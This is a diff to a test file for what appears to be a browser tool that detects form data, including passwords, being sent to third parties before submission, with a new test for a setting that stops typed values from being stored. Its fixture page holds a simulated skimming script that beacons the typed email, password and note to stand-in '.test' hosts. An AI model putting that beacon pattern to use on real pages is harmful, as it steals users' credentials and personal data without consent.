@@ -13,7 +13,7 @@ const password = 'correct horse 12 battery';
 const page = `<!doctype html><form>
   <input id="mail" name="work_email" type="email"><input id="secret" name="pw" type="password"><input id="note" name="note">
   <button id="go">Sign up</button></form><script>
-  const send = (what, value) => navigator.sendBeacon('https://' + what + '.test/c', JSON.stringify({ v: value, w: btoa(value) }));
+  const send = (what, value) => navigator.sendBeacon('https://' + what + location.search.slice(1) + '.test/c', JSON.stringify({ v: value, w: btoa(value) }));
   mail.oninput = () => send('early', mail.value);
   secret.onchange = () => send('passwords', secret.value);
   document.forms[0].onsubmit = (event) => { event.preventDefault(); setTimeout(() => send('late', note.value), 300); };
@@ -32,20 +32,23 @@ describe(`what a user types into a form in ${kind}`, () => {
     });
     browser = await launch(kind, { sinkPort: sink.port });
     await watch(browser, [app]);
-    const form = await browser.open(app);
-    await form.fill('#mail', 'ada.byron@analytical.example');
-    await form.fill('#secret', password);
-    await form.fill('#note', 'Countess of Lovelace');
-    await form.click('#go');
-    await sink.quiet(800, 5000);
+    await fillIn(app);
     report = await ask<Report>(browser, { type: 'report.create' });
-    await form.close();
   });
   afterAll(async () => {
     await browser?.close();
     await sink?.close();
   });
 
+  const fillIn = async (address: string) => {
+    const form = await browser.open(address);
+    await form.fill('#mail', 'ada.byron@analytical.example');
+    await form.fill('#secret', password);
+    await form.fill('#note', 'Countess of Lovelace');
+    await form.click('#go');
+    await sink.quiet(800, 5000);
+    await form.close();
+  };
   const findings = (vendor: string) =>
     report.findings.filter((each) => each.rule === 'form-value-before-submit' && each.vendor === `host:${vendor}.test`);
 
@@ -66,5 +69,21 @@ describe(`what a user types into a form in ${kind}`, () => {
     expect(findings('passwords')).toHaveLength(1);
     expect(report.findings.map(({ rule }) => rule)).toContain('secret-sent');
     expect(JSON.stringify(report)).not.toContain(password);
+  });
+
+  test('is not remembered if the settings forbid it', async () => {
+    await ask(browser, { type: 'settings.update', settings: { keep: { typedValues: false } } });
+    await fillIn(`${app}/?-unremembered`);
+    report = await ask<Report>(browser, { type: 'report.create' });
+    const categoriesOf = (vendor: string) =>
+      report.vendors.find(({ id }) => id === `host:${vendor}.test`)?.disclosures.map(({ category }) => category);
+    expect(['early', 'late', 'passwords'].map((vendor) => findings(vendor))).toEqual([
+      [expect.anything()],
+      [expect.anything()],
+      [expect.anything()],
+    ]);
+    expect(['early', 'late', 'passwords'].flatMap((vendor) => findings(`${vendor}-unremembered`))).toEqual([]);
+    expect(categoriesOf('early-unremembered')).toContain('email');
+    expect(categoriesOf('passwords-unremembered')).not.toContain('password');
   });
 });
